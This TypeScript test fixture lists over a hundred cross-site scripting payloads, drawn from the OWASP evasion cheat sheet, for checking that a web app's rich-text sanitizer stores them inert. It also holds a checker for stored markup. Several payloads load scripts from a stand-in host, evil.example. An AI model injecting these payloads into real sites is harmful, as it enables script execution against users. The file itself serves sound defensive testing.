/**
 * Cross-site scripting vectors after the OWASP XSS Filter Evasion Cheat Sheet: what an attacker pastes into
 * any rich-text field. Each one, if it ran, would set `window.__xss` or open a dialog (alert, confirm,
 * prompt), which a browser test watches for. Every rich-text field (policies today; problem statements,
 * capability statements and descriptions as they land) should store them all and render them inert:
 * `xssVectors` for the inputs, `inertMarkupProblems` for the stored output (apps/web/e2e/rich-text.ts checks the
 * rendered page).
 */
export interface XssVector {
  readonly label: string
  readonly html: string
}

const run = "window.__xss=1"
const b64 = (text: string) => Buffer.from(text).toString("base64")
/** "javascript:" with every character as a decimal or hex reference (the cheat sheet's encodings). */
const decimal = (text: string, pad = 0) =>
  [...text].map((c) => `&#${String(c.charCodeAt(0)).padStart(pad, "0")};`).join("")
const hex = (text: string) => [...text].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join("")

export const xssVectors: readonly XssVector[] = [
  // script elements
  { label: "plain script", html: `<script>${run}</script>` },
  { label: "script src", html: `<script src="https://evil.example/x.js"></script>` },
  { label: "script uppercase", html: `<SCRIPT>${run}</SCRIPT>` },
  { label: "script mixed case", html: `<ScRiPt>${run}</sCrIpT>` },
  { label: "script with attributes", html: `<script type="text/javascript" defer>${run}</script>` },
  { label: "script with slash separator", html: `<script/xss src="https://evil.example/x.js"></script>` },
  { label: "script extra open bracket", html: `<<script>${run}//<</script>` },
  { label: "script unclosed tag", html: `<script src=https://evil.example/x.js?< B >` },
  { label: "script half open", html: `<script src=//evil.example/.j>` },
  { label: "script in comment trick", html: `<!--<script>-->${run}<!--</script>-->` },
  { label: "script split by null", html: `<scr\u0000ipt>${run}</scr\u0000ipt>` },
  { label: "nested script", html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { label: "script in title", html: `</title><script>${run}</script>` },
  { label: "script after textarea", html: `</textarea><script>${run}</script>` },
  { label: "script in noscript", html: `<noscript><p title="</noscript><img src=x onerror=${run}>">` },
  { label: "script with entity body", html: `<script>&#119;indow.__xss=1</script>` },
  { label: "script in xmp", html: `<xmp><script>${run}</script></xmp>` },
  { label: "img in xmp", html: `<p>a<xmp><img src=x onerror=${run}></xmp>b</p>` },
  { label: "img in uppercase XMP", html: `<XMP><img src=x onerror=${run}></XMP>` },
  { label: "img in listing", html: `<listing><img src=x onerror=${run}></listing>` },
  { label: "script in plaintext", html: `<plaintext><script>${run}</script>` },
  // event handlers
  { label: "img onerror", html: `<img src=x onerror="${run}">` },
  { label: "img onerror unquoted", html: `<img src=x onerror=${run}>` },
  { label: "img onerror backticks", html: "<img src=x onerror=`window.__xss=1`>" },
  { label: "img onerror no src", html: `<img onerror="${run}">` },
  { label: "img onerror encoded", html: `<img src=x onerror="&#x77;indow.__xss=1">` },
  { label: "img with slash separators", html: `<img/src="x"/onerror=${run}>` },
  { label: "img newline in attribute", html: `<img src=x\nonerror=${run}>` },
  { label: "img malformed quotes", html: `<img """><script>${run}</script>">` },
  { label: "img dynsrc", html: `<img dynsrc="javascript:${run}">` },
  { label: "img lowsrc", html: `<img lowsrc="javascript:${run}">` },
  { label: "svg onload", html: `<svg onload=${run}>` },
  { label: "svg slash onload", html: `<svg/onload=${run}>` },
  { label: "body onload", html: `<body onload=${run}>` },
  { label: "body onpageshow", html: `<body onpageshow="${run}">` },
  { label: "p onclick", html: `<p onclick="${run}">click</p>` },
  { label: "a onmouseover", html: `<a onmouseover="${run}">hover</a>` },
  { label: "div onpointerenter", html: `<div onpointerenter="${run}">x</div>` },
  { label: "input autofocus onfocus", html: `<input autofocus onfocus=${run}>` },
  { label: "select autofocus onfocus", html: `<select autofocus onfocus=${run}></select>` },
  { label: "textarea autofocus onfocus", html: `<textarea autofocus onfocus=${run}></textarea>` },
  { label: "details ontoggle", html: `<details open ontoggle=${run}>` },
  { label: "marquee onstart", html: `<marquee onstart=${run}>x</marquee>` },
  { label: "video source onerror", html: `<video><source onerror="${run}"></video>` },
  { label: "audio onerror", html: `<audio src=x onerror=${run}>` },
  {
    label: "strong onanimationstart",
    html: `<style>@keyframes x{}</style><strong style="animation-name:x" onanimationstart="${run}">x</strong>`,
  },
  { label: "em onmouseover in allowed tag", html: `<em onmouseover="${run}">hover</em>` },
  { label: "h1 onclick allowed tag", html: `<h1 onclick="alert(1)">Title</h1>` },
  { label: "li onfocusin", html: `<ul><li tabindex=1 onfocusin="${run}">x</li></ul>` },
  // javascript: URLs, encoded and spaced
  { label: "a javascript href", html: `<a href="javascript:${run}">x</a>` },
  { label: "a javascript uppercase", html: `<a href="JAVASCRIPT:${run}">x</a>` },
  { label: "a javascript tab", html: `<a href="jav\tascript:${run}">x</a>` },
  { label: "a javascript encoded tab", html: `<a href="jav&#x09;ascript:${run}">x</a>` },
  { label: "a javascript encoded newline", html: `<a href="jav&#x0A;ascript:${run}">x</a>` },
  { label: "a javascript encoded carriage return", html: `<a href="jav&#x0D;ascript:${run}">x</a>` },
  { label: "a javascript leading space and meta", html: `<a href=" &#14;  javascript:${run}">x</a>` },
  { label: "a javascript decimal entities", html: `<a href="${decimal("javascript:")}${run}">x</a>` },
  {
    label: "a javascript padded decimal entities",
    html: `<a href="${decimal("javascript:", 7)}${run}">x</a>`,
  },
  { label: "a javascript hex entities", html: `<a href="${hex("javascript:")}${run}">x</a>` },
  { label: "a javascript named colon", html: `<a href="javascript&colon;${run}">x</a>` },
  { label: "a javascript no quotes", html: `<a href=javascript:${run}>x</a>` },
  { label: "a javascript backticks", html: "<a href=`javascript:window.__xss=1`>x</a>" },
  { label: "a vbscript", html: `<a href="vbscript:msgbox(1)">x</a>` },
  { label: "a livescript", html: `<a href="livescript:${run}">x</a>` },
  { label: "a data html", html: `<a href="data:text/html;base64,${b64(`<script>${run}</script>`)}">x</a>` },
  { label: "a data svg", html: `<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>` },
  { label: "a protocol relative", html: `<a href="//evil.example/">x</a>` },
  { label: "a xlink href", html: `<a xlink:href="javascript:${run}">x</a>` },
  {
    label: "a javascript in formaction",
    html: `<form><button formaction="javascript:${run}">x</button></form>`,
  },
  { label: "a null in scheme", html: `<a href="java\u0000script:${run}">x</a>` },
  { label: "a javascript with comment", html: `<a href="javascript://%0a${run}">x</a>` },
  { label: "a url-encoded javascript", html: `<a href="%6A%61%76%61%73%63%72%69%70%74:${run}">x</a>` },
  // svg and mathml
  { label: "svg script", html: `<svg><script>${run}</script></svg>` },
  {
    label: "svg animate href",
    html: `<svg><a><animate attributeName=href values=javascript:${run} /><text y=20>x</text></a></svg>`,
  },
  { label: "svg set onbegin", html: `<svg><set onbegin=${run} attributeName=x dur=1s>` },
  {
    label: "svg use data",
    html: `<svg><use href="data:image/svg+xml;base64,${b64(`<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${run}'/></svg>`)}#x"/></svg>`,
  },
  {
    label: "svg foreignObject",
    html: `<svg><foreignObject><iframe srcdoc="<script>parent.${run}</script>"></iframe></foreignObject></svg>`,
  },
  { label: "math href", html: `<math><mtext><a href="javascript:${run}">x</a></mtext></math>` },
  {
    label: "math maction",
    html: `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  },
  { label: "math style mutation", html: `<math><mtext><table><mglyph><style><img src=x onerror=${run}>` },
  // style, expression, css
  {
    label: "style element expression",
    html: `<style>p{background:url("javascript:${run}")}</style><p>x</p>`,
  },
  { label: "style attribute expression", html: `<p style="width:expression(${run})">x</p>` },
  { label: "style attribute url", html: `<p style="background-image:url(javascript:${run})">x</p>` },
  { label: "style escaped expression", html: `<p style="xss:expr/*XSS*/ession(${run})">x</p>` },
  { label: "style behavior", html: `<p style="behavior:url(xss.htc)">x</p>` },
  {
    label: "style -moz-binding",
    html: `<p style="-moz-binding:url(https://evil.example/xss.xml#xss)">x</p>`,
  },
  { label: "style import", html: `<style>@import "https://evil.example/xss.css";</style>` },
  { label: "link stylesheet", html: `<link rel="stylesheet" href="javascript:${run}">` },
  { label: "style breaking out", html: `<style></style><img src=x onerror=${run}>` },
  // frames, objects, embeds
  { label: "iframe javascript", html: `<iframe src="javascript:${run}"></iframe>` },
  { label: "iframe srcdoc", html: `<iframe srcdoc="<script>parent.${run}</script>"></iframe>` },
  { label: "iframe data", html: `<iframe src="data:text/html,<script>alert(1)</script>"></iframe>` },
  { label: "frameset", html: `<frameset><frame src="javascript:${run}"></frameset>` },
  { label: "object data", html: `<object data="javascript:${run}"></object>` },
  {
    label: "object type html",
    html: `<object type="text/html" data="data:text/html,<script>alert(1)</script>"></object>`,
  },
  { label: "embed src", html: `<embed src="data:image/svg+xml;base64,${b64("<svg onload=alert(1)>")}">` },
  { label: "embed javascript", html: `<embed src="javascript:${run}">` },
  // meta, base, forms
  { label: "meta refresh javascript", html: `<meta http-equiv="refresh" content="0;url=javascript:${run}">` },
  {
    label: "meta refresh data",
    html: `<meta http-equiv="refresh" content="0;url=data:text/html;base64,${b64("<script>alert(1)</script>")}">`,
  },
  {
    label: "meta refresh elsewhere",
    html: `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  },
  { label: "base href", html: `<base href="javascript:${run}//">` },
  { label: "form action", html: `<form action="javascript:${run}"><input type=submit></form>` },
  { label: "isindex action", html: `<isindex type=image src=1 onerror=${run}>` },
  { label: "button formaction", html: `<button formaction="javascript:${run}">x</button>` },
  // malformed markup and parser confusion
  { label: "unclosed img", html: `<img src=x onerror=${run}//` },
  { label: "attribute breakout", html: `<a href="https://ok.example/" title="x" onclick="${run}">x</a>` },
  { label: "quote breakout in href", html: `<a href="https://ok.example/"onclick="${run}">x</a>` },
  { label: "comment breakout", html: `<!--><img src=x onerror=${run}>-->` },
  { label: "cdata", html: `<![CDATA[><img src=x onerror=${run}>]]>` },
  { label: "processing instruction", html: `<?xml-stylesheet href="javascript:${run}"?>` },
  { label: "template", html: `<template><img src=x onerror=${run}></template>` },
  { label: "tag name with slash", html: `<img/onerror=${run}/src=x>` },
  { label: "double open", html: `<<img src=x onerror=${run}>>` },
  { label: "entity encoded tag", html: `&lt;script&gt;${run}&lt;/script&gt;` },
  { label: "fullwidth brackets", html: `＜script＞${run}＜/script＞` },
  {
    label: "html in attribute of allowed tag",
    html: `<a href="https://ok.example/?q=<script>${run}</script>">x</a>`,
  },
  { label: "utf-7 charset trick", html: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
  { label: "namespace confusion", html: `<svg><p><style><img src=x onerror=${run}></style></p></svg>` },
  { label: "select style mutation", html: `<select><style></select><img src=x onerror=${run}></style>` },
  { label: "noembed", html: `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>` },
  { label: "javascript in image input", html: `<input type="image" src="javascript:${run}">` },
  { label: "table background", html: `<table background="javascript:${run}"><tr><td>x</td></tr></table>` },
  { label: "keygen autofocus", html: `<keygen autofocus onfocus=${run}>` },
  { label: "dialog alert", html: `<img src=x onerror="alert(document.domain)">` },
  { label: "prompt confirm", html: `<svg onload="confirm(1);prompt(1)">` },
]

/** Tags and attributes that the one sanitizer keeps (platform/src/rich-text/sanitize.ts). */
const allowedTags = new Set([
  "p",
  "br",
  "strong",
  "em",
  "u",
  "s",
  "ul",
  "ol",
  "li",
  "a",
  "h1",
  "h2",
  "h3",
  "h4",
  "blockquote",
])
/** A link is inert when it names no scheme (a relative address) or http(s) or mailto, read as browsers do. */
const inertHref = (raw: string) => {
  const value = raw
    .replace(/&#x([0-9a-f]+);?/gi, (_, h: string) => String.fromCodePoint(Number.parseInt(h, 16) % 0x110000))
    .replace(/&#(\d+);?/g, (_, d: string) => String.fromCodePoint(Number(d) % 0x110000))
    .replace(/&colon;/gi, ":")
    .replace(/&amp;/g, "&")
    .replace(/[\t\n\r]/g, "")
    // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers strip these around a URL
    .replace(/^[\u0000-\u0020]+|[\u0000-\u0020]+$/g, "")
  if (/^[/\\]{2}/.test(value)) return false
  const scheme = /^([a-zA-Z][a-zA-Z0-9+.-]*):/.exec(value)?.[1]?.toLowerCase()
  return scheme === undefined || ["http", "https", "mailto"].includes(scheme)
}

/**
 * Why stored rich text would not be inert, read from the markup itself: a tag outside the allow-list, an
 * attribute other than a link's href, an href with a scheme other than http(s) or mailto. Empty when inert. Text
 * between tags is escaped by the sanitizer, so every `<` left starts a real tag.
 */
export const inertMarkupProblems = (html: string): string[] => {
  const problems: string[] = []
  for (const [, name, attributes] of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    const tag = name!.toLowerCase()
    if (!allowedTags.has(tag)) problems.push(`tag <${tag}>`)
    for (const [, attribute, quoted = ""] of attributes!.matchAll(
      /([^\s=/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s>]+))?/g,
    )) {
      const value = quoted.replace(/^(["'])([\s\S]*)\1$/, "$2")
      if (tag !== "a" || attribute!.toLowerCase() !== "href")
        problems.push(`attribute ${attribute} on <${tag}>`)
      else if (!inertHref(value)) problems.push(`href ${quoted}`)
    }
  }
  if (/<(?![a-zA-Z/])/.test(html.replace(/<\/?[a-zA-Z][^>]*>/g, ""))) problems.push("a bare < in text")
  return problems
}
